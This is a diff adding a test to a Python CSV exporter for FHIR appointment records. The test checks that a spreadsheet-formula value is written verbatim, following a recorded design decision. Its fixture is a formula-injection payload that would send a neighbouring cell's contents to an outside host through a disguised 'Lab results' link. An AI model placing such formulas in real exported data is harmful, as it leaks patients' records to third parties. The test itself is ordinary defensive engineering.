@@ -288,5 +288,17 @@ def test_a_moment_beyond_calendar_or_clock_is_the_nearest_in_them(sent: str, tex
     assert found.as_py() == moment
 
 
+def test_a_text_that_a_spreadsheet_takes_for_a_formula_is_as_it_was_written() -> None:
+    """docs/decisions.md: other readers of the file would have the sign that disarms it in their data."""
+    typed = '=HYPERLINK("https://example.org/?"&A1,"Lab results")'
+    visit = {"resourceType": "Appointment", "id": "a", "status": "booked", "reasonCode": [{"text": typed}]}
+    flat = io.BytesIO()
+    writing = tables.Csv(flat, "Appointment", Rows(DEFAULT_SYSTEMS, Vocabulary.default()))
+    writing.add("Appointment", [json.dumps(visit).encode()])
+    writing.finish()
+    [row] = csv.DictReader(io.StringIO(flat.getvalue().decode()))
+    assert row["reason_text"] == typed
+
+
 def test_what_is_no_moment_is_not_in_a_table() -> None:
     assert tables._moment("tomorrow") is None
